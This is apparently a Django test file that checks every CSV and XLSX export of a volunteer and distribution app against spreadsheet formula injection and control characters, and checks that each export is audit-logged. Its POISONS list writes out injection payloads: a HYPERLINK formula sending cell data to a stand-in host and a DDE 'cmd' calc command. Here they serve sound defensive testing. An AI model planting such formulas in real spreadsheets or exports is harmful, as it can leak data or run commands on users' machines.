"""Every CSV and XLSX download, found from the URL configuration, after planting formulas and control
characters in every free-text column of the demo data: no live formula, no unescaped formula prefix,
no control character, never anything but 200, and the audit entry written with the file."""

import csv
import io
import re

import pytest
from django.apps import apps
from django.core.management import call_command
from django.db import DatabaseError, models, transaction
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from core.exports import CONTROL_CHARACTERS, FORMULA_PREFIXES, safe_cell
from core.models import AuditLog, User

pytestmark = pytest.mark.django_db

PROJECT_APPS = {"core", "inventory", "distribution", "volunteers", "events"}
# What a hostile visitor types: formulas behind every prefix OWASP names, and control characters.
POISONS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3\x07", "@SUM(1+1)\x1b",
           "\t=1+2", "\r=1+2", "=1+2\x0b\x08"]
PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")
# Exports whose address needs an object: how the test finds one (an export missing here fails the test).
NEEDS_OBJECT = {
    "events:registrations": lambda: {"pk": _event_with_registrations().pk},
    "distribution:day_no_shows": lambda: {"pk": _day_with_no_shows().pk},
}


def _event_with_registrations():
    from events.models import Event

    return Event.objects.annotate(n=models.Count("registrations")).filter(n__gt=0).order_by("-n").first()


def _day_with_no_shows():
    from distribution.models import DistributionDay
    from distribution.selectors.days import no_shows

    return max(DistributionDay.objects.all(), key=lambda day: len(list(no_shows(day))))


def _patterns(resolver, namespace=""):
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _patterns(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", pattern


def export_views():
    """(url name, URL pattern, formats, trigger parameter) of every view that answers with a file."""
    found = []
    for name, pattern in _patterns(get_resolver()):
        view = getattr(pattern.callback, "view_class", pattern.callback)
        formats = getattr(view, "export_formats", None)
        if formats:
            found.append((name, pattern, formats, view.export_trigger_param))
    return found


def _unique_fields(model):
    names = set()
    for constraint in model._meta.constraints:
        names.update(getattr(constraint, "fields", ()) or ())
    for together in model._meta.unique_together:
        names.update(together)
    return names


def plant_poison():
    """Every non-empty free-text column of every row (not choices, not unique) becomes a poison."""
    planted = 0
    for model in apps.get_models():
        if model._meta.app_label not in PROJECT_APPS or model._meta.proxy or not model._meta.managed:
            continue
        unique = _unique_fields(model)
        for index, field in enumerate(model._meta.concrete_fields):
            if (not isinstance(field, models.CharField | models.TextField) or field.choices or field.unique
                    or field.primary_key or field.name in unique or field.name in {"password", "amka"}
                    or "token" in field.name or "hash" in field.name):
                continue
            poison = POISONS[(index + planted) % len(POISONS)]
            if field.max_length:
                poison = poison[:field.max_length]
            rows = model._default_manager.exclude(**{field.name: ""}).exclude(**{f"{field.name}__isnull": True})
            try:
                with transaction.atomic():
                    planted += rows.update(**{field.name: poison})
            except (TypeError, DatabaseError):
                pass  # an append-only table (the stock ledger): its texts reach no export of their own
    return planted


def _bad_cell(value) -> str | None:
    if not isinstance(value, str):
        return None
    if CONTROL_CHARACTERS.search(value):
        return "control character"
    if value.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.fullmatch(value):
        return "formula prefix"
    return None


def _csv_cells(content: bytes):
    text = content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _xlsx_cells(content: bytes):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield ("LIVE FORMULA", cell.value)
                yield cell.value


def test_safe_cell_neutralises_formulas_keeps_numbers_and_strips_control_characters():
    assert safe_cell("=1+2") == "'=1+2"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\t=1") == "'\t=1"
    assert safe_cell("\r=1") == "'\r=1"
    assert safe_cell("-2+3") == "'-2+3"
    assert safe_cell("+30 2521 057206") == "'+30 2521 057206"
    assert safe_cell("-5") == "-5" and safe_cell(-5) == -5 and safe_cell("+30") == "+30"
    assert safe_cell("Νίκος\x07\x1b\x00") == "Νίκος"
    assert safe_cell("two\nlines") == "two\nlines"
    assert safe_cell(None) == ""


def test_every_export_is_formula_safe_and_audited(client):
    call_command("load_demo", stdout=io.StringIO())
    assert plant_poison() > 100
    client.force_login(User.objects.get(username="syntonistria"))
    views = export_views()
    names = {name for name, *_ in views}
    # The exports the issue lists are among those found from the URLs.
    assert {"core:audit_log", "core:users", "core:locations", "inventory:items", "inventory:donors",
            "inventory:stock", "inventory:report", "distribution:households", "distribution:day_no_shows",
            "volunteers:roster", "volunteers:hours", "events:staff_list", "events:registrations",
            "reports:esf"} <= names, names
    failures, escaped, downloads = [], 0, 0
    for name, pattern, formats, param in views:
        needed = set(pattern.pattern.converters)
        if needed:
            assert name in NEEDS_OBJECT, f"{name}: tell the test how to find an object for this export"
            kwargs = NEEDS_OBJECT[name]()
        else:
            kwargs = {}
        url = reverse(name, kwargs=kwargs)
        for export_format in formats:
            audits_before = AuditLog.objects.filter(action=AuditLog.Action.EXPORT).count()
            # The region's reports are the regional role's (the demo's person of the region), the rest the
            # coordinator's.
            client.force_login(User.objects.get(username="perifereia" if name.startswith("reports:region")
                                                else "syntonistria"))
            response = client.get(url, {param: export_format}, HTTP_ACCEPT_LANGUAGE="el")
            downloads += 1
            if response.status_code != 200:
                failures.append(f"{name} {export_format}: {response.status_code}")
                continue
            assert "attachment" in response.get("Content-Disposition", ""), f"{name} {export_format}: not a file"
            assert AuditLog.objects.filter(action=AuditLog.Action.EXPORT).count() == audits_before + 1, name
            if export_format == "pdf":
                continue
            cells = _csv_cells(response.content) if export_format == "csv" else _xlsx_cells(response.content)
            for value in cells:
                if isinstance(value, tuple):
                    failures.append(f"{name} {export_format}: live formula {value[1]!r}")
                    continue
                problem = _bad_cell(value)
                if problem:
                    failures.append(f"{name} {export_format}: {problem} in {value!r}")
                elif isinstance(value, str) and value.startswith("'") and value[1:2] in "=+-@\t\r":
                    escaped += 1
    assert not failures, "\n".join(failures[:40])
    assert downloads >= 30
    # The planted values did reach the files (else the test could not fail).
    assert escaped > 100, escaped
